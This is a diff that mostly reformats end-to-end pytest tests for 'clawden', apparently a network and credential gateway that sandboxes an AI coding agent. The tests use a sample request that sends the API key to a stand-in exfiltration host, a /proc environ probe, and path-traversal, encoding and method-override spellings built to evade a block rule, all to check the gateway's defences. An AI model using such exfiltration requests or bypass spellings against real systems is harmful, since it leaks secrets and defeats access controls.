@@ -46,8 +46,13 @@ print(json.dumps(out))
 def stack(tmp_path_factory: pytest.TempPathFactory, docker_client: object, agent_image: str) -> Iterator[Stack]:
     s = start_stack(tmp_path_factory.mktemp("home"), vault="approval_timeout = 4")
     try:
-        out = subprocess.run([sys.executable, "-m", "clawden", "chat", "--once", "hello vault", "--timeout", "90"],
-                             env=s.env(), capture_output=True, text=True, timeout=120)
+        out = subprocess.run(
+            [sys.executable, "-m", "clawden", "chat", "--once", "hello vault", "--timeout", "90"],
+            env=s.env(),
+            capture_output=True,
+            text=True,
+            timeout=120,
+        )
         assert out.returncode == 0, out.stderr
         yield s
     finally:
@@ -90,8 +95,14 @@ def test_claude_code_keeps_its_default_https_endpoint_and_the_gateway_injects_th
     mounts = {m["Destination"]: m for m in box.attrs["Mounts"]}
     assert mounts["/run/clawden/trust"]["RW"] is False
     # The running Claude Code process: the relay as its proxy, no base URL, only the placeholder key.
-    probe = box.exec_run(["sh", "-c", "for p in /proc/[0-9]*; do grep -qa 'claude' $p/cmdline 2>/dev/null && "
-                                      "tr '\\0' '\\n' < $p/environ; done"], user="1000").output.decode()
+    probe = box.exec_run(
+        [
+            "sh",
+            "-c",
+            "for p in /proc/[0-9]*; do grep -qa 'claude' $p/cmdline 2>/dev/null && tr '\\0' '\\n' < $p/environ; done",
+        ],
+        user="1000",
+    ).output.decode()
     assert "HTTPS_PROXY=http://127.0.0.1:3128" in probe and "ANTHROPIC_BASE_URL" not in probe
     assert stack.key not in probe and "ANTHROPIC_API_KEY=clawden-managed" in probe
     logs = box.logs().decode()
@@ -106,7 +117,7 @@ v6 = [line.split()[-1] for line in open('/proc/net/ipv6_route').read().splitline
 s = socket.socket()
 s.settimeout(2)
 try:
-    s.connect(('127.0.0.1', {stack.nats_url.rsplit(':', 1)[1]}))
+    s.connect(('127.0.0.1', {stack.nats_url.rsplit(":", 1)[1]}))
     host_port = 'connected'
 except OSError:
     host_port = 'refused'
@@ -121,19 +132,34 @@ print(json.dumps({{"interfaces": sorted(os.listdir('/sys/class/net')),
     assert seen["interfaces"] == ["lo"] and seen["v4_routes"] == 0 and seen["v6_devices"] in ([], ["lo"])
     assert seen["gateway"] == ["gateway.sock"]
     assert seen["host_port"] == "refused"  # the host's NATS port is not the container's loopback
-    found = container(stack).exec_run(["sh", "-c", "find / -xdev -type s 2>/dev/null; find /run /workspace "
-                                                   "/home -type s 2>/dev/null"], user="1000").output.decode()
+    found = (
+        container(stack)
+        .exec_run(
+            ["sh", "-c", "find / -xdev -type s 2>/dev/null; find /run /workspace /home -type s 2>/dev/null"],
+            user="1000",
+        )
+        .output.decode()
+    )
     assert "other" not in found
 
 
 def test_rules_hold_from_inside_the_container(stack: Stack) -> None:
-    vault(stack, "rules-add", {"name": "e2e-limit", "action": "rate_limit", "host": "api.anthropic.com",
-                               "path": "/v1/limited", "limit": 2})
-    vault(stack, "rules-add", {"name": "e2e-block", "action": "block", "host": "api.anthropic.com",
-                               "path": "/v1/blocked/*"})
-    answers = fetch(stack, *[("https://api.anthropic.com/v1/limited", "GET")] * 3,
-                    ("https://api.anthropic.com/v1/blocked/x", "DELETE"),
-                    (f"https://exfil.example.test/collect?k={stack.key}", "GET"))
+    vault(
+        stack,
+        "rules-add",
+        {"name": "e2e-limit", "action": "rate_limit", "host": "api.anthropic.com", "path": "/v1/limited", "limit": 2},
+    )
+    vault(
+        stack,
+        "rules-add",
+        {"name": "e2e-block", "action": "block", "host": "api.anthropic.com", "path": "/v1/blocked/*"},
+    )
+    answers = fetch(
+        stack,
+        *[("https://api.anthropic.com/v1/limited", "GET")] * 3,
+        ("https://api.anthropic.com/v1/blocked/x", "DELETE"),
+        (f"https://exfil.example.test/collect?k={stack.key}", "GET"),
+    )
     limited = [status for status, _ in answers[:3]]
     assert limited == [404, 404, 429]  # the fake has no such path: the first two reached it
     assert answers[2][1]["error"] == "rate_limited"
@@ -144,8 +170,12 @@ def test_rules_hold_from_inside_the_container(stack: Stack) -> None:
 
 
 async def test_an_approval_gated_request_waits_then_passes_fails_or_expires(stack: Stack) -> None:
-    await asyncio.to_thread(vault, stack, "rules-add", {"name": "e2e-ask", "action": "manual_approval",
-                                                        "host": "api.anthropic.com", "path": "/v1/ask/*"})
+    await asyncio.to_thread(
+        vault,
+        stack,
+        "rules-add",
+        {"name": "e2e-ask", "action": "manual_approval", "host": "api.anthropic.com", "path": "/v1/ask/*"},
+    )
     nc = await stack.connect("test-approver")
     asks: asyncio.Queue[ev.ApprovalRequest] = asyncio.Queue()
 
@@ -166,11 +196,13 @@ async def test_an_approval_gated_request_waits_then_passes_fails_or_expires(stac
             await asyncio.sleep(0.5)
             assert not call.done()  # held while a human decides
             if decision is not None:
-                await nc.publish(subjects.approval_decision(ask.id),
-                                 ev.encode(ev.ApprovalDecision(id=ask.id, decision=decision)))
+                await nc.publish(
+                    subjects.approval_decision(ask.id), ev.encode(ev.ApprovalDecision(id=ask.id, decision=decision))
+                )
             [(status, body)] = await asyncio.wait_for(call, 60)
-            outcomes.append((status, body if isinstance(body, str) else body.get("error"),
-                             round(time.monotonic() - started)))
+            outcomes.append(
+                (status, body if isinstance(body, str) else body.get("error"), round(time.monotonic() - started))
+            )
     finally:
         await nc.close()
 
@@ -210,19 +242,48 @@ def as_servers_resolve(path: str) -> str:
 
 
 def test_no_spelling_of_a_blocked_path_or_method_gets_past_the_gateway(stack: Stack) -> None:
-    vault(stack, "rules-add", {"name": "e2e-no-prod", "action": "block", "host": "api.anthropic.com",
-                               "method": "DELETE", "path": "/v1/prod/*"})
-    spellings = ["/v1/x/../prod/a", "/v1/./prod/a", "/v1/x/%2e%2e/prod/a", "/v1/%70rod/a", "/v1/prod%2Fa",
-                 "//v1//prod/a", "/v1\\prod/a", "/v1/prod/a#frag", "/v1/prod;x/a", "/v1/PROD/a", "/v1/prod"]
+    vault(
+        stack,
+        "rules-add",
+        {
+            "name": "e2e-no-prod",
+            "action": "block",
+            "host": "api.anthropic.com",
+            "method": "DELETE",
+            "path": "/v1/prod/*",
+        },
+    )
+    spellings = [
+        "/v1/x/../prod/a",
+        "/v1/./prod/a",
+        "/v1/x/%2e%2e/prod/a",
+        "/v1/%70rod/a",
+        "/v1/prod%2Fa",
+        "//v1//prod/a",
+        "/v1\\prod/a",
+        "/v1/prod/a#frag",
+        "/v1/prod;x/a",
+        "/v1/PROD/a",
+        "/v1/prod",
+    ]
     seen = len(stack.fake.requests)
 
-    answers = raw(stack, *[("DELETE", p, {}) for p in spellings], ("delete", "/v1/prod/a", {}),
-                  ("POST", "/v1/prod/a", {"X-HTTP-Method-Override": "DELETE"}),
-                  ("POST", "/v1/prod/a?_method=DELETE", {}))
+    answers = raw(
+        stack,
+        *[("DELETE", p, {}) for p in spellings],
+        ("delete", "/v1/prod/a", {}),
+        ("POST", "/v1/prod/a", {"X-HTTP-Method-Override": "DELETE"}),
+        ("POST", "/v1/prod/a?_method=DELETE", {}),
+    )
 
     assert [(s, b["error"]) for s, b in answers] == [
-        *[(403, "blocked_by_policy")] * 4, (400, "path_refused"), (403, "blocked_by_policy"),
-        *[(400, "path_refused")] * 3, *[(403, "blocked_by_policy")] * 2, (400, "bad_request"),
-        *[(403, "blocked_by_policy")] * 2]
+        *[(403, "blocked_by_policy")] * 4,
+        (400, "path_refused"),
+        (403, "blocked_by_policy"),
+        *[(400, "path_refused")] * 3,
+        *[(403, "blocked_by_policy")] * 2,
+        (400, "bad_request"),
+        *[(403, "blocked_by_policy")] * 2,
+    ]
     reached = [as_servers_resolve(r.path) for r in stack.fake.requests[seen:]]
     assert not any(p.startswith("/v1/prod") for p in reached), reached
